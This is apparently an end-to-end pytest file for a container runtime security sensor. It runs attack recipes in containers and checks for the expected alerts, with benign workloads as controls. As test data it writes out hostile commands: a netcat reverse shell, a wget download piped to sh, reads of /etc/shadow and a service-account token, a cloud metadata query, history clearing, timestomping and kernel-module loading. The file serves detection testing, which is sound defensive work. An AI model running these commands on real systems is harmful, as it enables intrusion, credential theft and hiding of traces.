"""Attack recipes inside real runc containers, seen by the real sensor: the expected alerts.

The recipes follow Falco's event-generator syscall actions and Defender's attack-simulation
scripts (reference/runtime.md §6, §11), re-done with busybox. A benign suite — a shell
script, package-manager-like writes, a web server answering requests — must raise none.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.e2e.sensor_run import SensorRun, sensor
from tests.kernel.containers import run, runc_bundle

pytestmark = [pytest.mark.kernel, pytest.mark.e2e]

if os.geteuid() != 0:
    pytest.skip(
        "end-to-end runtime tests need root (CI runs them as root)", allow_module_level=True
    )

TOKEN_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"
WEB_SERVER = "#!/bin/sh\n# stands in for a web server whose request handler runs commands\n/bin/sh -c /bin/id\n"
PACKAGE_MANAGER = (
    "#!/bin/sh\n# a package manager installing a tool\n/bin/cp /bin/busybox /usr/bin/tool\n"
)


@dataclass
class Scenario:
    command: tuple[str, ...]
    expect: set[str]
    files: dict[str, str] = field(default_factory=dict)
    host_network: bool = False


def _listener() -> tuple[socket.socket, int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    return server, server.getsockname()[1]


def _serve(server: socket.socket) -> None:
    """Accept one connection, tell the shell on the other end to exit."""
    server.settimeout(15)
    try:
        connection, _ = server.accept()
    except OSError:
        return
    with connection:
        connection.sendall(b"exit\n")


SCENARIOS: dict[str, Scenario] = {
    "reverse-shell": Scenario(
        ("/bin/nc", "127.0.0.1", "{port}", "-e", "/bin/sh"),
        {"runtime_reverse_shell", "runtime_netcat_exec"},
        host_network=True,
    ),
    "drift": Scenario(
        ("/bin/sh", "-c", "/bin/cp /bin/busybox /tmp/dropped && /tmp/dropped true"),
        {"runtime_drift"},
    ),
    "shadow": Scenario(("/bin/cat", "/etc/shadow"), {"runtime_shadow_read"}),
    "web-shell": Scenario(
        ("/usr/sbin/nginx",), {"runtime_web_shell"}, files={"/usr/sbin/nginx": WEB_SERVER}
    ),
    "download-run": Scenario(
        ("/bin/sh", "-c", "/bin/wget -q -T 1 -O- http://127.0.0.1:9/x.sh | sh; true"),
        {"runtime_download_run"},
        host_network=True,
    ),
    "miner": Scenario(
        ("/bin/echo", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"),
        {"runtime_crypto_miner"},
    ),
    "ld-preload": Scenario(("/bin/sh", "-c", ": > /etc/ld.so.preload"), {"runtime_ld_preload"}),
    "namespace": Scenario(
        ("/bin/unshare", "-U", "/bin/true"), {"runtime_namespace_from_container"}
    ),
    "history": Scenario(("/bin/rm", "-f", "/root/.ash_history"), {"runtime_history_cleared"}),
    "timestomp": Scenario(
        ("/bin/touch", "-r", "/bin/busybox", "/tmp/x"), {"runtime_timestamp_tampering"}
    ),
    "token": Scenario(
        ("/bin/cat", f"{TOKEN_DIR}/token"),
        {"runtime_sa_token_read"},
        files={f"{TOKEN_DIR}/token": "eyJhbGciOiJSUzI1NiJ9.e30.c2ln\n"},
    ),
    "recon": Scenario(
        (
            "/bin/sh",
            "-c",
            "/bin/whoami; /bin/id; /bin/hostname; /bin/uname -a; /bin/ps; /bin/env > /dev/null",
        ),
        {"runtime_recon_burst"},
    ),
    "imds": Scenario(
        ("/bin/wget", "-q", "-T", "1", "-O-", "http://169.254.169.254/latest/meta-data/"),
        {"runtime_imds_access"},
        host_network=True,
    ),
    "kernel-module": Scenario(
        ("/bin/sh", "-c", "/bin/echo x > /tmp/m.ko; /bin/insmod /tmp/m.ko; true"),
        {"runtime_kernel_module"},
    ),
    "repeated": Scenario(
        # three commands of one session (sh execs the last cat in its own place, so that
        # one's parent is runc: the session id, not the parent, keeps them one alert)
        ("/bin/sh", "-c", "/bin/cat /etc/shadow; /bin/cat /etc/shadow; /bin/cat /etc/shadow"),
        {"runtime_shadow_read"},
    ),
}
BENIGN: dict[str, Scenario] = {
    "benign-script": Scenario(
        (
            "/bin/sh",
            "-c",
            "/bin/echo hello > /tmp/out; /bin/cat /tmp/out; /bin/ls /; "
            "/bin/mkdir -p /var/lib/app && /bin/echo state > /var/lib/app/state",
        ),
        set(),
    ),
    "benign-package-manager": Scenario(("/sbin/apk",), set(), files={"/sbin/apk": PACKAGE_MANAGER}),
    "benign-web-server": Scenario(
        (
            "/bin/sh",
            "-c",
            "/bin/echo ok > /tmp/index.html; /bin/httpd -p 127.0.0.1:{web} -h /tmp; "
            "/bin/sleep 0.3; /bin/wget -q -O- http://127.0.0.1:{web}/index.html",
        ),
        set(),
        host_network=True,
    ),
}


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorRun, dict[str, str]]]:
    tmp = tmp_path_factory.mktemp("e2e")
    names: dict[str, str] = {}
    with sensor("--duration", "300") as seen:
        for label, scenario in {**SCENARIOS, **BENIGN}.items():
            name = f"g-{label}-{os.getpid()}"
            names[label] = name
            server, port = _listener()
            thread = threading.Thread(target=_serve, args=(server,))
            if any("{port}" in a for a in scenario.command):
                thread.start()  # a listener the container's shell connects back to
            with socket.socket() as spare:
                spare.bind(("127.0.0.1", 0))
                web = spare.getsockname()[1]
            command = [a.format(port=port, web=web) for a in scenario.command]
            try:
                with runc_bundle(tmp, name, scenario.files) as bundle:
                    run(bundle, *command, host_network=scenario.host_network)
                    run(bundle, "/bin/sleep", "0.2")  # the sensor reads the state while it runs
            finally:
                if thread.is_alive():
                    thread.join()
                server.close()
    yield seen, names


@pytest.mark.parametrize("label", list(SCENARIOS))
def test_attack_recipe_raises_its_alerts(
    outcome: tuple[SensorRun, dict[str, str]], label: str
) -> None:
    seen, names = outcome
    rules = seen.rules_in(names[label])
    assert SCENARIOS[label].expect <= rules, (rules, seen.stderr[-2000:])


@pytest.mark.parametrize("label", list(BENIGN))
def test_benign_workloads_raise_nothing(
    outcome: tuple[SensorRun, dict[str, str]], label: str
) -> None:
    seen, names = outcome
    assert seen.for_container(names[label]) == [], (seen.for_container(names[label]), names)


def test_alerts_carry_entities_and_mitre(outcome: tuple[SensorRun, dict[str, str]]) -> None:
    seen, names = outcome
    drift = next(a for a in seen.for_container(names["drift"]) if a["rule_id"] == "runtime_drift")
    assert drift["severity"] == "high" and drift["process"] == "/tmp/dropped"
    assert "T1204.002" in drift["mitre"]["techniques"]
    assert "/tmp/dropped" in drift["output"]


def test_one_alert_per_rule_container_and_lineage_with_a_count(
    outcome: tuple[SensorRun, dict[str, str]],
) -> None:
    seen, names = outcome
    shadow = [
        a for a in seen.for_container(names["repeated"]) if a["rule_id"] == "runtime_shadow_read"
    ]
    first = [a for a in shadow if not a["update_of"]]
    updates = [a for a in shadow if a["update_of"]]
    assert len(first) == 1 and first[0]["count"] == 1
    assert (
        len(updates) == 1 and updates[0]["count"] == 3 and updates[0]["update_of"] == first[0]["id"]
    )


def test_blocking_drift_stops_the_binary_before_it_runs(tmp_path: Path) -> None:
    policy = tmp_path / "drift.yaml"
    policy.write_text("rules:\n  - name: block every drift\n    action: block\n")
    name = f"g-block-{os.getpid()}"
    script = (
        "/bin/sleep 0.5; /bin/cp /bin/busybox /tmp/dropped; "
        "/tmp/dropped touch /tmp/marker; /bin/echo rc=$?"
    )
    with sensor("--drift-policy", str(policy)) as seen, runc_bundle(tmp_path, name) as bundle:
        result = run(bundle, "/bin/sh", "-c", script)
        marker = bundle.upper / "tmp" / "marker"
        dropped = bundle.upper / "tmp" / "dropped"
        assert dropped.exists() and not marker.exists()  # it never ran its own code
    assert "rc=137" in result.stdout  # killed by SIGKILL
    rules = seen.rules_in(name)
    assert "runtime_drift_blocked" in rules and "runtime_drift" not in rules


def test_deny_list_kills_an_executable_by_path(tmp_path: Path) -> None:
    name = f"g-deny-{os.getpid()}"
    with sensor("--deny-exec", "/bin/nc") as seen, runc_bundle(tmp_path, name) as bundle:
        result = run(bundle, "/bin/sh", "-c", "/bin/nc -h; /bin/echo rc=$?; /bin/sleep 0.2")
    assert "rc=137" in result.stdout
    assert "runtime_denied_exec" in seen.rules_in(name)
